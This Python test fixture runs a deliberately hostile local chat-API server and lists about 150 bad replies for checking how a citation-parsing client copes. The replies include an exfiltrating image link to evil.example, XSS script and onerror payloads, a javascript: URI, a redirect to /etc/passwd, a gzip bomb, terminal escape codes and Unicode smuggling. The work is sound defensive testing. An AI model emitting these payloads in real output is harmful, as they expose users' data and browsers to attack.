"""A server on this machine that speaks the chat API as badly as a model, a provider or an attacker could."""

from __future__ import annotations

import gzip
import json
import re
import socket
import threading
import time
from collections.abc import Callable, Iterable, Iterator
from contextlib import contextmanager, suppress
from dataclasses import dataclass, field
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from itertools import chain
from typing import Any, Literal

KEY = "sk-a-key-that-nobody-may-see-48151623"
EVIL = "http://evil.example/x.png?q=secret"
EVENTS = {"Content-Type": "text/event-stream"}
SLOW_SECONDS = 30.0
"""Longer than any test waits; a handler that is cut off ends earlier."""

Expected = Literal["llm", "fallback", "refused", "partial"]


@dataclass
class Asked:
    """One request: its body, how many came before it for the same question, and the prompt taken apart."""

    body: dict[str, Any]
    before: int
    other: str
    """Address of another server, which must never be called."""

    @property
    def prompt(self) -> str:
        """What the user's message says."""
        return str(self.body["messages"][1]["content"])

    @property
    def marker(self) -> str:
        """The marker of the data."""
        found = re.match(r"<<([0-9a-f]+)>>\n", self.prompt)
        assert found
        return found[1]

    @property
    def sentences(self) -> dict[int, str]:
        """The numbered sentences."""
        return {int(n): text for n, text in re.findall(r"^\[([0-9]+)\] (.*)$", self.prompt, re.M)}

    def find(self, part: str) -> tuple[str, int]:
        """The sentence that holds a text, and its number."""
        return next((text, n) for n, text in self.sentences.items() if part in text)


@dataclass
class Answered:
    """A response, written to the socket as it is."""

    pieces: Iterable[bytes]
    status: str = "200 OK"
    headers: dict[str, str] = field(default_factory=lambda: EVENTS)
    raw: bool = False
    """The pieces are all that is sent: no status line and no headers."""


Behaviour = Callable[[Asked], Answered]


class Hostile:
    """The server: set `behave`, ask, look at `requests`."""

    def __init__(self) -> None:
        self.behave: Behaviour = lambda _: Answered(events("{}"))
        self.requests: list[Asked] = []
        self.authorizations: set[str | None] = set()
        self.open = 0
        """Requests that are being answered now."""
        self.address = ""
        self.other = ""
        self.called: list[str] = []
        """What came to the other server."""

    def settings(self, **changed: object) -> dict[str, object]:
        """The section `llm` of settings that ask it, from the confidence at which the tests' articles are quoted."""
        return {"base_url": self.address, "model": "stub", "api_key": KEY, "min_confidence": 0.15, **changed}


class _Server(ThreadingHTTPServer):
    daemon_threads = True

    def __init__(self, stub: Hostile, handler: type[_Quiet]) -> None:
        super().__init__(("127.0.0.1", 0), handler)
        self.stub = stub

    def handle_error(self, *_: object) -> None:
        """Say nothing: clients hang up here."""


class _Quiet(BaseHTTPRequestHandler):
    server: _Server

    def log_message(self, *_: object) -> None:
        """Say nothing."""


class _Handler(_Quiet):
    def do_POST(self) -> None:
        stub = self.server.stub
        body = json.loads(self.rfile.read(int(self.headers["Content-Length"])))
        stub.authorizations.add(self.headers.get("Authorization"))
        asked = Asked(body, len(stub.requests), stub.other)
        stub.requests.append(asked)
        stub.open += 1
        try:
            with suppress(OSError):
                self._send(stub.behave(asked))
        finally:
            stub.open -= 1
            self.close_connection = True

    def _send(self, answered: Answered) -> None:
        if not answered.raw:
            head = "".join(f"{name}: {value}\r\n" for name, value in answered.headers.items())
            self.wfile.write(f"HTTP/1.1 {answered.status}\r\n{head}Connection: close\r\n\r\n".encode())
        for piece in answered.pieces:
            if piece is RESET:
                self.connection.setsockopt(socket.SOL_SOCKET, socket.SO_LINGER, b"\x01\0\0\0\0\0\0\0")
                self.connection.close()
                return
            self.wfile.write(piece)


class _Other(_Quiet):
    def do_POST(self) -> None:
        self.server.stub.called.append(self.path)
        self.send_error(500)

    do_GET = do_POST


@contextmanager
def hostile() -> Iterator[Hostile]:
    """Serve until the end of the block."""
    stub = Hostile()
    with _Server(stub, _Handler) as server, _Server(stub, _Other) as other:
        stub.address = f"http://127.0.0.1:{server.server_address[1]}/v1"
        stub.other = f"http://127.0.0.1:{other.server_address[1]}/v1"
        for one in (server, other):
            threading.Thread(target=one.serve_forever, daemon=True).start()
        yield stub
        for one in (server, other):
            one.shutdown()


RESET = b"reset the connection here"


# What is sent


def event(value: object) -> bytes:
    """One server-sent event."""
    return f"data: {json.dumps(value)}\n\n".encode()


def delta(text: object, **more: object) -> bytes:
    """One chunk with a piece of the text."""
    return event({"object": "chat.completion.chunk", "choices": [{"index": 0, "delta": {"content": text, **more}}]})


def events(text: str, size: int = 7) -> list[bytes]:
    """A whole stream that says a text, a few characters at a time."""
    return [delta(text[at : at + size]) for at in range(0, len(text), size)] + [b"data: [DONE]\n\n"]


def says(text: str, size: int = 7) -> Answered:
    """A stream that says a text."""
    return Answered(events(text, size))


def items(*given: tuple[object, object]) -> str:
    """What the schema asks for."""
    return json.dumps({"items": [{"text": text, "sentences": numbers} for text, numbers in given]})


def whole(message: object, kind: str = "application/json") -> Answered:
    """A response that is not a stream."""
    body = json.dumps({"choices": [{"index": 0, "message": message}]}).encode()
    return Answered([body], headers={"Content-Type": kind})


def status(line: str, **headers: str) -> Behaviour:
    """A response without a reply."""
    return lambda _: Answered([b'{"error": {"message": "' + KEY.encode() + b'"}}'], line, headers)


def forever(piece: bytes, pause: float = 0.0) -> Iterator[bytes]:
    """The same piece until nobody reads any more."""
    until = time.monotonic() + SLOW_SECONDS
    while time.monotonic() < until:
        yield piece
        time.sleep(pause)


PART = "Engineers replaced 3 of the 8 turbines"
"""The sentence that answers the question of the table."""


def with_good(make: Callable[[str, int], str]) -> Behaviour:
    """A reply that is made of the sentence that answers and its number."""
    return lambda asked: says(make(*asked.find(PART)))


def around(before: str, after: str) -> Behaviour:
    """The sentence that answers, with something around it, cited as it should be."""
    return with_good(lambda text, n: items((before + text + after, [n])))


def inside(more: str) -> Behaviour:
    """The sentence that answers, with something before its full stop."""
    return with_good(lambda text, n: items((text.removesuffix(".") + more + ".", [n])))


def numbered(numbers: Callable[[int], object]) -> Behaviour:
    """The sentence that answers with other numbers."""
    return with_good(lambda text, n: items((text, numbers(n))))


def literal(numbers: str) -> Behaviour:
    """The sentence that answers, with numbers that are written down like this."""
    return with_good(lambda text, _: f'{{"items": [{{"text": {json.dumps(text)}, "sentences": {numbers}}}]}}')


def of(value: object) -> Behaviour:
    """A stream with one event."""
    return lambda _: Answered([event(value), b"data: [DONE]\n\n"])


def in_turn(*behaviours: Behaviour) -> Behaviour:
    """Another behaviour for each request of one question, the last for all further ones."""
    return lambda asked: behaviours[min(asked.before, len(behaviours) - 1)](asked)


def without(*fields: str, behaviour: Behaviour, line: str = "400 Bad Request") -> Behaviour:
    """A server that refuses a request with one of these fields, as some do."""
    return lambda asked: status(line)(asked) if {*fields} & {*asked.body} else behaviour(asked)


def ended(reason: str, *pieces: bytes) -> list[bytes]:
    """A stream that says why it is over."""
    return [*pieces, event({"choices": [{"index": 0, "delta": {}, "finish_reason": reason}]}), b"data: [DONE]\n\n"]


def cut(text: str, n: int, ends: bytes | None, more: str) -> Iterator[bytes]:
    """A stream that breaks off after a piece of the reply."""
    yield from events(more.replace("TEXT", text).replace("NUMBER", str(n)))[:-1]
    if ends is not None:
        yield ends


def broken(more: str, ends: bytes | None = RESET) -> Behaviour:
    """A stream that is cut."""
    return lambda asked: Answered(cut(*asked.find(PART), ends, more))


ONE = '{"items": [{"text": "TEXT", "sentences": [NUMBER]}'
HALF = '{"items": [{"text": "TE'
HONEST = numbered(lambda n: [n])
NOBODY = "The dam was sold to a company from abroad for 5 billion."


def _other_number(asked: Asked) -> Answered:
    text, n = asked.find(PART)
    return says(items((text, [next(other for other in asked.sentences if other != n)])))


def _raw(*pieces: bytes) -> Behaviour:
    return lambda _: Answered(pieces, raw=True)


BEHAVIOURS: dict[str, tuple[Behaviour, Expected]] = {
    # What a reader of replies has to bear
    "as asked": (HONEST, "llm"),
    "not streamed": (lambda a: whole({"content": items((a.find(PART)[0], [a.find(PART)[1]]))}), "llm"),
    "a character at a time": (lambda a: says(items((a.find(PART)[0], [a.find(PART)[1]])), 1), "llm"),
    "in one piece": (lambda a: says(items((a.find(PART)[0], [a.find(PART)[1]])), 10_000), "llm"),
    "in a fence": (with_good(lambda t, n: f"```json\n{items((t, [n]))}\n```"), "llm"),
    "with prose around": (with_good(lambda t, n: f'Sure! "Here":\n{items((t, [n]))}\nI hope it helps.'), "llm"),
    "trailing commas": (with_good(lambda t, n: f'{{"items": [{{"text": "{t}", "sentences": [{n},],}},],}}'), "llm"),
    "a single object": (with_good(lambda t, n: json.dumps({"text": t, "sentences": [n]})), "llm"),
    "a bare list": (with_good(lambda t, n: json.dumps([{"text": t, "sentences": [n]}])), "llm"),
    "other names of fields": (with_good(lambda t, n: json.dumps({"statement": t, "citations": [n]})), "llm"),
    "a line": (with_good(lambda t, n: f"{t} [{n}]"), "llm"),
    "a line with its full stop last": (with_good(lambda t, n: f"{t.rstrip('.')} [{n}]."), "llm"),
    "a list of lines": (with_good(lambda t, n: f"Here you are:\n- {t} [{n}]\n"), "llm"),
    "thinking aloud": (with_good(lambda t, n: f'<think>{{"text": "x", "sentences": [1]}}</think>{t} [{n}]'), "llm"),
    "marks inside the text": (with_good(lambda t, n: items((f"{t} [{n}]", [n]))), "llm"),
    "numbers as text": (numbered(lambda n: [str(n)]), "llm"),
    "numbers in brackets": (numbered(lambda n: [f"[{n}]"]), "llm"),
    "a number with a point": (numbered(lambda n: [float(n)]), "llm"),
    "one number": (numbered(lambda n: n), "llm"),
    "a known number among others": (numbered(lambda n: [n, 999, -1, "x", None]), "llm"),
    "the same number often": (numbered(lambda n: [n] * 500), "llm"),
    "the same statement often": (with_good(lambda t, n: items(*[(t, [n])] * 200)), "llm"),
    "a lie before it": (around(f"{NOBODY} ", ""), "llm"),
    "an address after it": (around("", f" See {EVIL} for more."), "llm"),
    "a statement with a lie": (with_good(lambda t, n: items((NOBODY, [n]), (t, [n]))), "llm"),
    "events with carriage returns": (
        lambda a: Answered([p.replace(b"\n", b"\r\n") for p in HONEST(a).pieces]),
        "llm",
    ),
    "a byte order mark": (lambda a: Answered([b"\xef\xbb\xbf", *HONEST(a).pieces]), "llm"),
    "events without spaces": (
        lambda a: Answered([piece.replace(b"data: ", b"data:") for piece in HONEST(a).pieces]),
        "llm",
    ),
    "no end of the stream": (lambda a: Answered([*HONEST(a).pieces][:-1]), "llm"),
    "empty events and comments": (
        lambda a: Answered([b": ping\n\n", delta(""), delta(None), event({"choices": []}), *HONEST(a).pieces]),
        "llm",
    ),
    "more after the end": (lambda a: Answered([*HONEST(a).pieces, b"data: {\n\n"]), "llm"),
    "cookies": (lambda a: Answered(HONEST(a).pieces, headers={**EVENTS, "Set-Cookie": "a=b"}), "llm"),
    "no schema here": (without("response_format", behaviour=HONEST), "llm"),
    "a model that reasons": (without("temperature", "max_tokens", behaviour=HONEST), "llm"),
    "no field that is not known": (
        without("response_format", "max_completion_tokens", behaviour=HONEST, line="422 Unprocessable"),
        "llm",
    ),
    "the reason for its end, and no mark of it": (
        lambda a: Answered(ended("stop", *[*HONEST(a).pieces][:-1])[:-1]),
        "llm",
    ),
    "cut off after a statement": (lambda a: Answered(ended("length", *broken(ONE, None)(a).pieces)), "partial"),
    "filtered after a statement": (
        lambda a: Answered(ended("content_filter", *broken(ONE, None)(a).pieces)),
        "partial",
    ),
    "cut off while it thinks": (lambda _: Answered(ended("length", delta(None, reasoning_content="Hm"))), "fallback"),
    "better the second time": (in_turn(lambda _: says("I do not know how."), HONEST), "llm"),
    "cited the second time": (in_turn(numbered(lambda _: []), HONEST), "llm"),
    "a key twice": (
        with_good(lambda t, n: f'{{"text": "x", "text": "{t}", "sentences": [9], "sentences": [{n}]}}'),
        "llm",
    ),
    "over within the next sentence": (broken('{"items": [{"sentences": [NUMBER], "text": "TEXT And th', None), "llm"),
    "reset within the next sentence": (broken('{"items": [{"sentences": [NUMBER], "text": "TEXT And th'), "partial"),
    "over within a sentence": (broken('{"items": [{"sentences": [NUMBER], "text": "TEXT', None), "fallback"),
    "reset after a statement": (broken(ONE), "partial"),
    "silent after a statement": (lambda a: Answered(chain(broken(ONE, None)(a).pieces, forever(b"", 31))), "partial"),
    "over after a statement": (broken(ONE, None), "llm"),
    "nothing to say": (lambda _: says('{"items": []}'), "refused"),
    "nothing to say, in prose": (lambda _: says('There is no answer.\n```json\n{"items": []}\n```'), "refused"),
    # Numbers that are not there
    "an unknown number": (numbered(lambda _: [999]), "fallback"),
    "zero": (numbered(lambda _: [0]), "fallback"),
    "a negative number": (numbered(lambda n: [-n]), "fallback"),
    "a huge number": (numbered(lambda _: [10**30]), "fallback"),
    "a number of ten thousand digits": (literal(f"[{'9' * 10_000}]"), "fallback"),
    "a number out of range": (literal("[1e999]"), "fallback"),
    "half a number": (numbered(lambda n: [n + 0.5]), "fallback"),
    "not a number": (literal("[NaN, Infinity, -Infinity]"), "fallback"),
    "a number in words": (numbered(lambda _: ["three"]), "fallback"),
    "true": (numbered(lambda _: [True]), "fallback"),
    "no number": (numbered(lambda _: []), "fallback"),
    "null": (numbered(lambda _: None), "fallback"),
    "a list in a list": (numbered(lambda n: [[n]]), "fallback"),
    "an object as number": (numbered(lambda n: {"id": n}), "fallback"),
    "the id of an article": (numbered(lambda _: ["a_7f3c91d2#s0"]), "fallback"),
    "the number of another sentence": (_other_number, "fallback"),
    "every number": (lambda a: says(items((NOBODY, list(a.sentences)))), "fallback"),
    "text alone": (with_good(lambda t, _: json.dumps({"text": t})), "fallback"),
    "numbers alone": (with_good(lambda _, n: json.dumps({"sentences": [n]})), "fallback"),
    # Things that nobody said
    "invented": (with_good(lambda _, n: items((NOBODY, [n]))), "fallback"),
    "another figure": (with_good(lambda t, n: items((t.replace("3 of", "5 of"), [n]))), "fallback"),
    "the contrary": (with_good(lambda t, n: items((t.replace("replaced", "did not replace"), [n]))), "fallback"),
    "the prompt again": (lambda a: says(items((a.prompt, [1]))), "fallback"),
    "the prompt as it is": (lambda a: says(a.prompt), "fallback"),
    "the instructions": (lambda a: says(items((a.body["messages"][0]["content"], [1]))), "fallback"),
    "the marker": (lambda a: says(items((f"<<{a.marker}>>", [1]))), "fallback"),
    "the marker inside": (lambda a: inside(f" {a.marker}")(a), "fallback"),
    "fake marks": (inside(" [1][2][3] as it says"), "fallback"),
    "a text without words": (with_good(lambda _, n: items(("…!?", [n]))), "fallback"),
    "a text without end": (with_good(lambda t, n: items((t * 1000, [n]))), "fallback"),
    # Things that a browser or a terminal would act upon
    "an image": (inside(f" ![x]({EVIL})"), "fallback"),
    "a link": (inside(f" [more]({EVIL})"), "fallback"),
    "a reference link": (around("", f" [more][1]\n\n[1]: {EVIL}"), "fallback"),
    "an address": (inside(f", see {EVIL}"), "fallback"),
    "an address in angle brackets": (inside(f" <{EVIL}>"), "fallback"),
    "an address without a scheme": (inside(", see evil.example/x for more"), "fallback"),
    "an address of any scheme": (inside(", see //evil.example"), "fallback"),
    "www": (inside(", see www.evil for more"), "fallback"),
    "a mail address": (inside(", write to mailto:a@evil.example"), "fallback"),
    "a script": (around("<script>alert(1)</script>", ""), "fallback"),
    "an element with a handler": (around("", "<img src=x onerror=alert(1)>"), "fallback"),
    "a frame": (around("<iframe src='//evil.example'></iframe>", ""), "fallback"),
    "a style": (around("<style>*{display:none}</style>", ""), "fallback"),
    "javascript": (inside(" javascript:alert(1)"), "fallback"),
    "data": (inside(" data:text/html;base64,PHNjcmlwdD4="), "fallback"),
    "entities": (around("&lt;script&gt;", "&#60;"), "fallback"),
    "emphasis and code": (around("**", "** `rm -rf`"), "fallback"),
    "a heading": (around("# ", ""), "fallback"),
    "a template": (around("{{ 7 * 7 }} ", ""), "fallback"),
    "control characters": (around("\x00\x07", "\x08"), "fallback"),
    "colours of a terminal": (around("\x1b[31m", "\x1b]0;title\x07"), "fallback"),
    "right to left": (around("\u202e", "\u202c"), "fallback"),
    "zero width": (around("", "\u200b\u200d\ufeff"), "fallback"),
    "tags of Unicode": (around("", "\U000e0041\U000e007f"), "fallback"),
    "half a surrogate": (with_good(lambda t, n: f'{{"text": "{t} \\ud800", "sentences": [{n}]}}'), "fallback"),
    "private characters": (around("", "\ue000"), "fallback"),
    # Forms that are none
    "nothing": (lambda _: says(""), "fallback"),
    "an empty object": (lambda _: says("{}"), "fallback"),
    "half of a reply": (broken(HALF, None), "fallback"),
    "depth of lists": (lambda _: says("[" * 50_000, 5000), "fallback"),
    "depth of objects": (lambda _: says('{"a":' * 10_000 + "}" * 10_000, 5000), "fallback"),
    "other fields": (lambda _: says('{"answer": 5, "ok": true}'), "fallback"),
    "a text that is a list": (with_good(lambda t, n: items(([t], [n]))), "fallback"),
    "quotes without end": (lambda _: says('{"text": "' + "a" * 60_000, 5000), "fallback"),
    "a line without end": (lambda _: says("[1] [2] " * 7000 + "x", 5000), "fallback"),
    "brackets without end": (lambda _: says("[ 1" + " " * 60_000, 5000), "fallback"),
    "content that is an object": (of({"choices": [{"delta": {"content": {"text": "x"}}}]}), "fallback"),
    "content that is a list": (of({"choices": [{"delta": {"content": ["x"]}}]}), "fallback"),
    "no choices": (of({"choices": []}), "fallback"),
    "choices that are no list": (of({"choices": {"0": 1}}), "fallback"),
    "a choice that is text": (of({"choices": ["x"]}), "fallback"),
    "an event that is a list": (of([1, 2]), "fallback"),
    "an event that is a number": (lambda _: Answered([b"data: 1e400\n\n"]), "fallback"),
    "a call of a tool": (
        of({"choices": [{"delta": {"tool_calls": [{"function": {"name": "shell", "arguments": "{}"}}]}}]}),
        "fallback",
    ),
    "a refusal of its own": (of({"choices": [{"delta": {"refusal": "No."}, "finish_reason": "content_filter"}]}),
                             "fallback"),
    "an error in the stream": (of({"error": {"message": KEY}}), "fallback"),
    "not JSON": (lambda _: Answered([b"data: {nope\n\n"]), "fallback"),
    "depth of JSON": (lambda _: Answered([b"data: " + b"[" * 100_000 + b"\n\n"]), "fallback"),
    "a page": (lambda _: Answered([b"<html><script>x()</script>"], headers={"Content-Type": "text/html"}), "fallback"),
    "events as plain text": (lambda a: Answered(HONEST(a).pieces, headers={"Content-Type": "text/plain"}), "fallback"),
    "no content type": (lambda a: Answered(HONEST(a).pieces, headers={}), "fallback"),
    "bytes that are no text": (lambda _: Answered([b"data: \xff\xfe\xc3\x28\n\n"]), "fallback"),
    "UTF-16": (lambda a: Answered([b"".join(HONEST(a).pieces).decode().encode("utf-16")]), "fallback"),
    "a bomb": (
        lambda _: Answered(
            [gzip.compress(b"data: " + b"a" * 50_000_000)],
            headers={**EVENTS, "Content-Encoding": "gzip"},
        ),
        "fallback",
    ),
    "compressed in secret": (lambda a: Answered([gzip.compress(b"".join(HONEST(a).pieces))]), "fallback"),
    # A server that fails
    **{
        f"status {line}": (status(line), "fallback")
        for line in ("204 No Content", "400 Bad Request", "401 Unauthorized", "403 Forbidden", "404 Not Found")
    },
    **{
        f"status {line}": (status(line), "fallback")
        for line in ("418 Teapot", "422 Unprocessable", "429 Too Many Requests", "500 Error", "503 Unavailable")
    },
    **{
        f"redirect {code}": (
            lambda a, code=code: status(f"{code} Elsewhere", Location=f"{a.other}/chat/completions")(a),
            "fallback",
        )
        for code in (301, 302, 303, 307, 308)
    },
    "a redirect to a file": (status("302 Found", Location="file:///etc/passwd"), "fallback"),
    "no HTTP at all": (_raw(b"\x16\x03\x01\x02garbage\r\n\r\n"), "fallback"),
    "an old HTTP": (_raw(b"hello"), "fallback"),
    "a head that breaks off": (_raw(b"HTTP/1.1 200 OK\r\nContent-Ty", RESET), "fallback"),
    "reset at once": (_raw(RESET), "fallback"),
    "closed at once": (_raw(), "fallback"),
    "reset in a statement": (broken(HALF), "fallback"),
    "a head without end": (lambda _: Answered(forever(b"X-More: " + b"x" * 4000 + b"\r\n"), raw=True), "fallback"),
    "a body that is too short": (
        lambda _: Answered([b"data: "], headers={**EVENTS, "Content-Length": "9999"}),
        "fallback",
    ),
    "chunks that are none": (
        lambda _: Answered([b"zz\r\nxx"], headers={**EVENTS, "Transfer-Encoding": "chunked"}),
        "fallback",
    ),
    "text without end": (lambda _: Answered(forever(delta("a" * 500))), "fallback"),
    "comments without end": (lambda _: Answered(forever(b": " + b"x" * 4000 + b"\n")), "fallback"),
    "a line of the stream without end": (lambda _: Answered(forever(b"x" * 65_536)), "fallback"),
    "objects without end": (lambda _: Answered(forever(delta('{"text": "a", "sentences": [1]}' * 10))), "fallback"),
    "drop by drop": (lambda _: Answered(forever(delta("a"), 0.1)), "fallback"),
    "no head": (lambda _: Answered(forever(b"", 31), raw=True), "fallback"),
    "no text": (lambda _: Answered(forever(b"", 31)), "fallback"),
}  # fmt: skip
